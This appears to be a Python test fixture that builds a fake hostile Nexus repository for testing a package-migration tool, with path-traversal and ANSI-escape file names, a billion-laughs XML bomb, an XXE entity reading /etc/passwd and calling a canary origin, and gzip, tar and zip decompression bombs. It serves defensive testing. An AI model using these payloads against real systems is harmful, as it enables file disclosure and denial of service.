"""The hostile Nexus's data: every kind of hostile listing entry, each beside normal files.

Each `Entry` is one asset of one repository as the hostile Nexus lists and serves it. `kind`
names what is hostile about it ("normal" for the real package files from the demo seed that
must migrate beside them); `listed` overrides what the listing says about the bytes (a lying
checksum, a size shorter than the body). The catalogue (issue "bad input"):

- listing paths: traversal, absolute (POSIX and Windows), Windows separators, NUL, control
  characters, ANSI escape sequences (a name printed to a terminal must not drive it),
  a 10,000-character name; 3,000-character ones are legal (a Maven one must migrate, a
  generic one is longer than CodeArtifact's asset names and is refused)
- XML the tool could parse: a billion-laughs bomb and an external entity (XXE) pointing at the
  canary origin, as maven-metadata.xml files
- npm: a gzip bomb as a tarball (its packument lacks the version, so the tool reads the
  tarball's package.json), packuments that are not JSON, or hold the wrong types, or are
  larger (80 MiB, streamed) than any registry document
- PyPI: a wheel whose METADATA says `six 6.6.6` while its name says `hostile_wheel-1.0.0`, a
  wheel that is not a zip, a wheel whose METADATA is a zip bomb, an sdist whose PKG-INFO is a
  tar bomb, a malformed simple page
- generic: a listed checksum that lies, a body longer than the listed size
- every entry's `downloadUrl` points at another origin (the canary): nothing may be sent there
- repositories whose paging loops (a continuation token handed out twice) or fails for good
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import tarfile
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

SEED = Path(__file__).resolve().parent / "demo_seed"

# name → (format, what the repository does when listed)
REPOSITORIES = {
    "maven-releases": "maven2",
    "npm-internal": "npm",
    "pypi-internal": "pypi",
    "raw-files": "raw",
    "loop-repo": "raw",  # its continuation token comes back: the crawl must stop
    "broken-repo": "raw",  # its listing answers 500 for good: the other repositories go on
}
LOOPING, BROKEN = "loop-repo", "broken-repo"
#: An npm package whose packument is larger than any registry document (served streamed).
HUGE_PACKUMENT, HUGE_PACKUMENT_BYTES = "hugepackument", 80 << 20


@dataclass
class Entry:
    repo: str
    path: str
    body: bytes
    kind: str = "normal"
    listed: dict = field(default_factory=dict)  # overrides: {"size": n, "sha1": "..."}

    @property
    def hostile(self) -> bool:
        return self.kind != "normal"


def _seed(repo: str, path: str) -> Entry:
    return Entry(repo, path, (SEED / repo / path).read_bytes())


def _jar(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("META-INF/MANIFEST.MF", f"Manifest-Version: 1.0\nName: {name}\n")
    return out.getvalue()


def _tgz(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1_700_000_000
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def gzip_bomb(inflated: int, member: str = "package/package.json", head: bytes = b"{",
              tail: bytes = b"}") -> bytes:
    """A tar.gz of a few KB that inflates to `inflated` bytes: one `member` (by default an
    npm tarball's `package/package.json`: `{`, spaces, `}`, valid JSON) that is `head`,
    spaces, `tail`. Built as a multi-member gzip (RFC 1952 §2.2) of one compressed MiB of
    spaces repeated, so making it costs nothing."""
    chunk = 1 << 20
    body = max(inflated // chunk, 2) * chunk
    info = tarfile.TarInfo(member)
    info.size, info.mtime = body, 1_700_000_000
    header = info.tobuf(format=tarfile.USTAR_FORMAT)
    first = header + head + b" " * (chunk - len(head))
    last_pad = (512 - body % 512) % 512
    spaces = gzip.compress(b" " * chunk, compresslevel=9, mtime=0)
    parts = [gzip.compress(first, mtime=0)]
    parts += [spaces] * (body // chunk - 2)
    parts.append(gzip.compress(b" " * (chunk - len(tail)) + tail + b"\0" * last_pad
                               + b"\0" * 1024, mtime=0))
    return b"".join(parts)


def sdist_bomb(inflated: int, name: str = "hostile_tar", version: str = "1.0.0") -> bytes:
    """An sdist `.tar.gz` of a few KB whose `{name}-{version}/PKG-INFO` inflates to
    `inflated` bytes (a description of spaces): what pkginfo would read whole."""
    head = (f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
            "Description: ").encode()
    return gzip_bomb(inflated, f"{name}-{version}/PKG-INFO", head, b"\n")


def wheel_bomb(inflated: int, name: str = "hostile_zip", version: str = "1.0.0") -> bytes:
    """A wheel whose METADATA deflates `inflated` bytes (a description of spaces) into a
    few hundred KB: what pkginfo would read whole. Written as a stream, so making it holds
    one MiB at a time."""
    out = io.BytesIO()
    dist = f"{name}-{version}.dist-info"
    head = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n".encode()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr(f"{name}/__init__.py", "")
        with z.open(f"{dist}/METADATA", "w", force_zip64=True) as member:
            member.write(head)
            for _ in range(max(inflated >> 20, 1)):
                member.write(b" " * (1 << 20))
        z.writestr(f"{dist}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\n"
                                    "Tag: py3-none-any\n")
        z.writestr(f"{dist}/RECORD", "")
    return out.getvalue()


def _wheel(name: str, version: str, meta_name: str, meta_version: str) -> bytes:
    out = io.BytesIO()
    dist = f"{name}-{version}.dist-info"
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(f"{name}/__init__.py", "")
        z.writestr(f"{dist}/METADATA", f"Metadata-Version: 2.1\nName: {meta_name}\n"
                                       f"Version: {meta_version}\nSummary: hostile\n")
        z.writestr(f"{dist}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\n"
                                    "Tag: py3-none-any\n")
        z.writestr(f"{dist}/RECORD", "")
    return out.getvalue()


def _billion_laughs(levels: int = 9) -> bytes:
    """The classic entity-expansion bomb: 10**levels `lol`s from a few hundred bytes."""
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels + 1)]
    return (f'<?xml version="1.0"?>\n<!DOCTYPE lolz [{"".join(entities)}]>\n'
            f"<metadata><groupId>&lol{levels};</groupId></metadata>\n").encode()


XML_BOMB = _billion_laughs()


def xxe(canary: str) -> bytes:
    return (f'<?xml version="1.0"?>\n<!DOCTYPE m [<!ENTITY ext SYSTEM "{canary}/xxe">'
            f'<!ENTITY pw SYSTEM "file:///etc/passwd">]>\n'
            f"<metadata><groupId>&ext;&pw;</groupId></metadata>\n").encode()


def packuments(entries: list[Entry]) -> dict[str, bytes]:
    """npm packument bodies by package name: real ones built from the tarballs for normal
    packages, hostile ones as the catalogue says."""
    out: dict[str, bytes] = {}
    for e in entries:
        if e.repo != "npm-internal" or e.kind != "normal":
            continue
        name = e.path.split("/-/")[0]
        with tarfile.open(fileobj=io.BytesIO(e.body), mode="r:gz") as tar:
            handle = tar.extractfile("package/package.json")
            manifest = json.loads(handle.read()) if handle else {}
        doc = json.loads(out.get(name, b'{"versions": {}}'))
        doc["name"] = name
        doc["versions"][manifest["version"]] = manifest
        doc.setdefault("dist-tags", {})["latest"] = manifest["version"]
        out[name] = json.dumps(doc).encode()
    out["bomb"] = b'{"name": "bomb", "versions": {}, "dist-tags": {}}'
    out["notjson"] = b'{"name": "notjson", "versions": {'
    out["wrongtypes"] = b'{"name": "wrongtypes", "versions": ["1.0.0"], "time": 7}'
    return out


def catalogue(canary: str, *, bomb_bytes: int = 1 << 30) -> list[Entry]:
    """Every entry the hostile Nexus lists (`canary`: the other origin's base URL)."""
    small = _tgz({"package/package.json": b'{"name": "x", "version": "1.0.0"}'})
    long_stem = "L" * 3000
    e = [
        _seed("maven-releases", "com/acme/greeter/1.0.0/greeter-1.0.0.jar"),
        _seed("maven-releases", "com/acme/greeter/1.0.0/greeter-1.0.0.pom"),
        Entry("maven-releases", "com/acme/../../../../tmp/evil/1.0/evil-1.0.jar",
              _jar("evil"), "traversal"),
        Entry("maven-releases", "/tmp/evil/1.0/evil-1.0.jar", _jar("abs"), "absolute path"),
        Entry("maven-releases", "C:\\evil\\1.0\\evil-1.0.jar", _jar("win"),
              "Windows absolute path"),
        Entry("maven-releases", "com\\..\\..\\evil\\1.0\\evil-1.0.jar", _jar("win2"),
              "Windows separators"),
        Entry("maven-releases", "com/acme/nul/1.0/nul-1.0.jar\x00.txt", _jar("nul"), "NUL"),
        Entry("maven-releases", "com/acme/bell/1.0/bell\x07\r-1.0.jar", _jar("bell"),
              "control characters"),
        Entry("maven-releases", "com/acme/\x1b[2J\x1b[31mpwned/1.0/pwned-1.0.jar",
              _jar("ansi"), "ANSI escape sequence"),
        Entry("maven-releases", "com/acme/long/1.0/" + "x" * 10_000 + ".jar", _jar("long"),
              "10,000-character name"),
        # Legal (below the 4,096-character path limit) and too long for a file system: it
        # must migrate, so the spool must not name its file after it.
        Entry("maven-releases", "com/acme/longname/1.0/longname-1.0-" + "c" * 2950 + ".jar",
              _jar("longname")),
        Entry("maven-releases", "com/acme/greeter/maven-metadata.xml", XML_BOMB, "XML bomb"),
        Entry("maven-releases", "com/acme/other/maven-metadata.xml", xxe(canary),
              "XML external entity"),
        _seed("npm-internal", "left-pad/-/left-pad-1.3.0.tgz"),
        Entry("npm-internal", "bomb/-/bomb-1.0.0.tgz", gzip_bomb(bomb_bytes), "gzip bomb"),
        Entry("npm-internal", "notjson/-/notjson-1.0.0.tgz", small, "packument not JSON"),
        Entry("npm-internal", "wrongtypes/-/wrongtypes-1.0.0.tgz", small,
              "packument of the wrong shape"),
        Entry("npm-internal", f"{HUGE_PACKUMENT}/-/{HUGE_PACKUMENT}-1.0.0.tgz", small,
              "packument above the size cap"),
        _seed("pypi-internal", "packages/typing-extensions/4.12.2/"
                               "typing_extensions-4.12.2-py3-none-any.whl"),
        Entry("pypi-internal", "packages/hostile-wheel/1.0.0/"
                               "hostile_wheel-1.0.0-py3-none-any.whl",
              _wheel("hostile_wheel", "1.0.0", "six", "6.6.6"),
              "wheel metadata contradicts its file name"),
        Entry("pypi-internal", "packages/broken/1.0/broken-1.0-py3-none-any.whl",
              b"this is not a zip file", "wheel that is not a zip"),
        Entry("pypi-internal", "packages/hostile-zip/1.0.0/hostile_zip-1.0.0-py3-none-any.whl",
              wheel_bomb(64 << 20), "wheel whose METADATA is a zip bomb"),
        Entry("pypi-internal", "packages/hostile-tar/1.0.0/hostile_tar-1.0.0.tar.gz",
              sdist_bomb(bomb_bytes), "sdist whose PKG-INFO is a tar bomb"),
        Entry("pypi-internal", "simple/evil/index.html",
              b"<html><a href='../../../../etc/passwd'>\x00\x1b[31m</a", "malformed simple page"),
        _seed("raw-files", "docs/RELEASE-NOTES.txt"),
        Entry("raw-files", "lies/checksum.txt", b"the bytes are fine\n", "checksum lie",
              {"sha1": hashlib.sha1(b"other bytes").hexdigest()}),
        Entry("raw-files", "lies/longer.txt", b"0123456789" * 10, "body longer than listed",
              {"size": 10}),
        Entry("raw-files", f"long/{long_stem}.txt", b"long name\n",
              "3,000-character file name"),
        Entry(LOOPING, "loop/a.txt", b"a\n", "normal"),
        Entry(LOOPING, "loop/b.txt", b"b\n", "normal"),
    ]
    return e
